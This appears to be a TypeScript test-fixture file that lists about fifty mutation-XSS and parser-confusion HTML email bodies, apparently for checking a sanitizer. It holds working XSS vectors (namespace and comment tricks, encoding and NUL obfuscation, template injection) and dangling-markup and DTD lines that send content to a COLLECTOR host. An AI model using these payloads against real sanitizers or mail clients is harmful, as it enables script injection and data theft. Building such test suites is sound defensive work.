import { COLLECTOR, PAYLOAD, createEmails } from './model.ts';

const img = `<img src=x onerror=${PAYLOAD}>`;

/** Markup that parsers interpret differently. */
export const mutation = createEmails([
  ['mx-noscript', 'text without scripts, tags with them', `<noscript><p title="</noscript>${img}"></noscript>`],
  ['mx-noscript-style', 'a comment across noscript', `<noscript><style></noscript>${img}</style>`],
  ['mx-title', 'a title in an attribute', `<title><p title="</title>${img}"></title>`],
  ['mx-textarea', 'a text area in an attribute', `<textarea><p title="</textarea>${img}"></textarea>`],
  [
    'mx-style-svg',
    'a stylesheet that is text in HTML, tags in SVG',
    `<svg><style>${img}</style></svg><svg></p><style><a id="</style>${img}">`,
  ],
  [
    'mx-math-table',
    'MathML, a table and a glyph',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${PAYLOAD}&gt;">`,
  ],
  ['mx-math-style', 'a style of MathML', `<math><mi><mglyph><style><a title="</style>${img}">x</a>`],
  [
    'mx-form-nesting',
    'forms that nest when read again',
    `<form><math><mtext></form><form><mglyph><style></math>${img}`,
  ],
  [
    'mx-svg-desc',
    'a description that is HTML',
    `<svg><desc><svg><style><p title="</style>${img}"></style></svg></desc></svg>`,
  ],
  [
    'mx-select',
    'what select leaves out',
    `<select><style></select>${img}</style><select><option><template></select>${img}`,
  ],
  ['mx-table', 'what a table pushes out', `<table><style><a title="</style>${img}"></style><tr>${img}<td>x</table>`],
  ['mx-p-table', 'a paragraph in a table in quirks', `<p><table><p>${img}</table>`],
  ['mx-template', 'a template within itself', `<template><template></template>${img}</template>`],
  ['mx-comment-bang', 'a comment that ends early', `<!--!>${img}--><!--> ${img} --><!---> ${img} -->`],
  ['mx-comment-dash', 'a comment that ends with --!>', `<!-- --!>${img}--><!-- <!-- --> ${img}`],
  ['mx-comment-open', 'a comment that does not end', `<p>x</p><!-- ${img}`],
  [
    'mx-conditional',
    'conditional comments',
    `<!--[if gte IE 4]><script>${PAYLOAD}</script><![endif]--><![if !mso]>${img}<![endif]>`,
  ],
  ['mx-cdata', 'CDATA in HTML, in SVG', `<svg><![CDATA[><image xlink:href="]]>${img}//"></svg><![CDATA[ ${img} ]]>`],
  [
    'mx-processing',
    'instructions',
    `<?xml version="1.0"?><?import namespace="t" implementation="#default#time2"?><?php echo 1 ?>${img}<?x >${img}`,
  ],
  [
    'mx-doctype',
    'a doctype with entities',
    `<!DOCTYPE html [<!ENTITY x SYSTEM "${COLLECTOR}/entity"><!ENTITY y "${'&z;'.repeat(9)}">]><p>&x;&y;</p>`,
  ],
  [
    'mx-doctype-public',
    'a doctype from outside',
    `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${COLLECTOR}/dtd"><p>x</p>`,
  ],
  [
    'mx-doctype-quote',
    'a doctype with signs of HTML',
    `<!DOCTYPE html PUBLIC '"><script>${PAYLOAD}</script>' '--><script>${PAYLOAD}</script>'><p>x</p>`,
  ],
  [
    'mx-backtick',
    'backticks as quotes',
    `<p title="\`\`onmouseover=${PAYLOAD}">x</p><img alt="\`><script>${PAYLOAD}</script>">`,
  ],
  [
    'mx-attribute-names',
    'names that can’t be made by hand',
    `<p "="" <b ='x' @click=${PAYLOAD} :href=x [y]=z {a}=b \u0000q=1 é=2>x</p>`,
  ],
  ['mx-attribute-open', 'an attribute that does not end', `<p>x</p><a title="${img}`],
  ['mx-attribute-open-single', 'the other quote', `<p>x</p><a href='${COLLECTOR}/`],
  ['mx-tag-open', 'a tag that does not end', `<p>x</p><img src="data:," onerror=${PAYLOAD} `],
  ['mx-dangling', 'a URL that captures the following text', `<img src='${COLLECTOR}/dangling?<p>secret</p>`],
  [
    'mx-dangling-style',
    'a style that captures the following text',
    `<style>p{background:url("${COLLECTOR}/dangling?<p>secret</p>`,
  ],
  ['mx-title-open', 'a title that does not end', `<html><head><title>x<body>${img}`],
  ['mx-textarea-open', 'a text area that does not end', `<textarea>${img}`],
  ['mx-style-open', 'a stylesheet that does not end', `<style>p{} ${img}`],
  [
    'mx-stray-ends',
    'end tags without start tags',
    `</p></br></html></body></head></style></script></iframe></svg></math>${img}`,
  ],
  [
    'mx-heads',
    'several heads and bodies',
    `<body a=1><head b=2><html c=3 onclick=${PAYLOAD}><body onload=${PAYLOAD} a=2></html><body onfocus=${PAYLOAD}>${img}`,
  ],
  [
    'mx-entities',
    'references that change twice',
    `<p title="&quot;&gt;&lt;img src=x onerror=${PAYLOAD}&gt;">&lt;script&gt;${PAYLOAD}&lt;/script&gt;&amp;lt;script&amp;gt;</p>`,
  ],
  [
    'mx-entities-odd',
    'references that are not',
    '<p title="&notit;&#0;&#xD800;&#x110000;&#128;&nosuch;&lt">&#x202E;&#0;&#99999999999;</p>',
  ],
  [
    'mx-nul',
    'NUL everywhere',
    `<p\0 ti\0tle="a\0b">x\0y</p\0><!--\0--><style>\0p{}</style><im\0g src=x onerror=${PAYLOAD}>`,
  ],
  ['mx-surrogates', 'halves of characters', '<p title="\uD800">\uDC00x\uD83D</p>'],
  ['mx-bidi', 'bidirectional text', '<p>\u202Etxet \u2066x\u2069\u200F</p><p dir=rtl><bdo dir=ltr>x</bdo></p>'],
  ['mx-zero-width', 'invisible text', `<scr\u200Bipt>${PAYLOAD}</script><p>\u200B\u200D\uFEFF\u{E0041}</p>`],
  ['mx-fullwidth', 'lookalike characters', `\uFF1Cscript\uFF1E${PAYLOAD}\uFF1C/script\uFF1E\u2039img onerror=x\u203A`],
  ['mx-utf7', 'another encoding', `+ADw-script+AD4-${PAYLOAD}+ADw-/script+AD4-`],
  ['mx-iso2022', 'escapes of an encoding', `\u001B$B<p title="\u001B(B" onclick=${PAYLOAD}>x</p>`],
  [
    'mx-namespace',
    'names of XML',
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${PAYLOAD}</x:script><svg:script>${PAYLOAD}</svg:script><html:img src=x onerror=${PAYLOAD}>`,
  ],
  [
    'mx-foreign-break',
    'HTML breaks out of SVG',
    `<svg><p><style><!--</style>${img}--></style></svg><svg><font color=x>${img}`,
  ],
  [
    'mx-adoption',
    'misnested formatting',
    `<b><p><i></b>${img}</i></p><a><div><a href="javascript:${PAYLOAD}">x</a></div></a>`,
  ],
  ['mx-nobr', 'elements opened anew', `<nobr><nobr><b><table><nobr>${img}</table><font color=red><p><font size=9>`],
  [
    'mx-proto',
    'names of the language',
    `<p __proto__=x constructor=y toString=z id=__proto__ class=constructor>x</p><__proto__><constructor onclick=${PAYLOAD}><hasOwnProperty>`,
  ],
  [
    'mx-mail-tags',
    'tags of the service',
    '<p>{unsubscribe}{{ constructor.constructor("self.ran=1")() }}${self.ran=1}<%= self.ran=1 %>#{self.ran=1}</p>',
  ],
  [
    'mx-is',
    'a line end in a name',
    `<img src=x\u2028onerror=${PAYLOAD}><img src=x\u00A0onerror=${PAYLOAD}><img src=x\u3000onerror=${PAYLOAD}>`,
  ],
  ['mx-plain', 'no markup at all', 'javascript:self.ran=1 <<<>>> && ]]> --> */ <!'],
]);
